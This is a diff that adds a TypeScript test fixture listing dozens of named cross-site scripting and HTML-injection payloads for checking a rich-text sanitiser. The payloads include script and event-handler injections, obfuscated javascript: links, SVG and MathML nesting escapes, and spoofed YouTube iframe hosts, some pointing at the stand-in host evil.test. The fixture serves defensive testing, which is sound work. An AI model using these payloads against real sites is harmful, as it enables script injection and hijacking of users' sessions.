@@ -1,0 +1,88 @@
+const YOUTUBE = 'https://www.youtube.com/embed/dQw4w9WgXcQ';
+
+/** Attacks on rich text, by name. After sanitising, none may leave a way to run a script or load a stranger. */
+export const attacks: Record<string, string> = {
+  script: '<p>가<script>alert(1)</script>나</p>',
+  'script in capitals, unclosed': '<ScRiPt src=//evil.test/x.js>',
+  'script split by a script': '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  'event handler': '<img src="https://a.test/x.png" onerror="alert(1)">',
+  'event handler without quotes or space': '<img/src=x/onerror=alert(1)>',
+  'event handler behind a line break': '<p\nonmouseover\n=\nalert(1)>가</p>',
+  'handler on body': '<body onload=alert(1)><p>가</p>',
+  'javascript link': '<a href="javascript:alert(1)">가</a>',
+  'javascript link in capitals behind spaces': '<a href="  JaVaScRiPt:alert(1)">가</a>',
+  'javascript link with a tab': '<a href="java\tscript:alert(1)">가</a>',
+  'javascript link with a tab entity': '<a href="java&#x09;script:alert(1)">가</a>',
+  'javascript link in entities': '<a href="&#106;avascript&colon;alert(1)">가</a>',
+  'javascript link behind a control character': '<a href="&#1;javascript:alert(1)">가</a>',
+  'vbscript link': '<a href="vbscript:msgbox(1)">가</a>',
+  'data link': '<a href="data:text/html,<script>alert(1)</script>">가</a>',
+  'link without a scheme': '<a href="//evil.test/">가</a>',
+  'link without a scheme, by backslashes': '<a href="/\\evil.test/">가</a>',
+  'link without a scheme, by a tab': '<a href="/\t/evil.test/">가</a>',
+  'xlink on svg': '<svg><a xlink:href="javascript:alert(1)"><text y="20">가</text></a></svg>',
+  'svg with onload': '<svg onload=alert(1)><circle r="9"></svg>',
+  'svg with foreign HTML': '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
+  'svg animating a link': '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
+  'math link': '<math href="javascript:alert(1)"><mtext>가</mtext></math>',
+  'style element': '<style>@import "https://evil.test/x.css"; p { color: red }</style><p>가</p>',
+  'style with url': '<p style="background-color: url(https://evil.test/x)">가</p>',
+  'style with background': '<p style="background: url(javascript:alert(1))">가</p>',
+  'style with expression': '<p style="color: expression(alert(1))">가</p>',
+  'style that covers the page': '<div style="position: fixed; inset: 0; z-index: 9999">가</div>',
+  'style escaped': '<p style="\\63olor: red; c/**/olor: red; color: var(--x)">가</p>',
+  'style breaking out': '<p style="color: red&quot; onclick=&quot;alert(1)">가</p>',
+  'frame with srcdoc': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  'YouTube frame with srcdoc': `<iframe src="${YOUTUBE}" srcdoc="<script>alert(1)</script>"></iframe>`,
+  'YouTube frame with children': `<iframe src="${YOUTUBE}"><img src=x onerror=alert(1)></iframe>`,
+  'YouTube frame closed from a title': `<iframe src="${YOUTUBE}"><a href="/x" title="</iframe><img src=x onerror=alert(1)>">`,
+  'frame of a stranger': '<iframe src="https://evil.test/"></iframe>',
+  'frame with javascript': '<iframe src="javascript:alert(1)"></iframe>',
+  'frame on a host that begins alike':
+    '<iframe src="https://www.youtube.com.evil.test/embed/dQw4w9WgXcQ"></iframe>',
+  'frame on a host that ends alike': '<iframe src="https://evil-www.youtube.com/embed/dQw4w9WgXcQ"></iframe>',
+  'frame with the host as a user name':
+    '<iframe src="https://www.youtube.com@evil.test/embed/dQw4w9WgXcQ"></iframe>',
+  'frame with the host as a path':
+    '<iframe src="https://evil.test/https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>',
+  'frame over http': '<iframe src="http://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>',
+  'frame of a redirecting YouTube page':
+    '<iframe src="https://www.youtube.com/redirect?q=//evil.test"></iframe>',
+  'frame leaving /embed': '<iframe src="https://www.youtube.com/embed/../redirect"></iframe>',
+  'data picture': '<img src="data:image/png;base64,iVBORw0KGgo=">',
+  'data picture with svg': '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
+  'picture that calls the API': '<img src="/api/console/session">',
+  'picture that climbs out of the files': '<img src="/files/../api/console/session">',
+  'picture with srcset': '<img src="https://a.test/x.png" srcset="javascript:alert(1) 1x">',
+  form: '<form action="https://evil.test/"><input name="password"><button formaction="javascript:alert(1)">가</button></form>',
+  'form fields': '<textarea><img src=x onerror=alert(1)></textarea><select><option>가</option></select>',
+  base: '<base href="https://evil.test/"><a href="/x">가</a>',
+  meta: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+  'link element': '<link rel="stylesheet" href="https://evil.test/x.css">',
+  object: '<object data="javascript:alert(1)"><embed src="javascript:alert(1)"></object>',
+  'media with handlers': '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
+  'names that shadow the page':
+    '<a id="document" name="cookie" href="/x">가</a><img name="getElementById" src="x">',
+  'classes of the console': '<div class="btn danger scrim" data-confirm="x" aria-label="x">가</div>',
+  'custom element': '<x-evil onclick="alert(1)" is="x">가</x-evil>',
+  comment:
+    '<!--[if IE]><script>alert(1)</script><![endif]--><p>가</p><!-- --!><img src=x onerror=alert(1)> -->',
+  'processing instruction': '<?xml version="1.0"?><p>가</p><![CDATA[<img src=x onerror=alert(1)>]]>',
+  'null byte': '<scr\0ipt>alert(1)</scr\0ipt><a href="java\0script:alert(1)">가</a>',
+  'unclosed tag at the end': '<p>가</p><img src=x onerror=alert(1) ',
+  'nesting: noscript': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  'nesting: title in svg':
+    '<svg><title><style><img src="</style><img src=x onerror=alert(1)>"></title></svg>',
+  'nesting: math and style':
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  'nesting: form in math':
+    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form>',
+  'nesting: annotation':
+    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
+  'nesting: xmp': '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
+  'nesting: template': '<template><img src=x onerror=alert(1)></template>',
+  'nesting: plaintext': '<p>가</p><plaintext><img src=x onerror=alert(1)>',
+  'nesting: select': '<select><template><style><!--</style><a rel="--><iframe/onload=alert(1)>">',
+  'escaped markup as text':
+    '<p>&lt;img src=x onerror=alert(1)&gt;</p><option>&lt;script&gt;alert(1)&lt;/script&gt;</option>',
+};
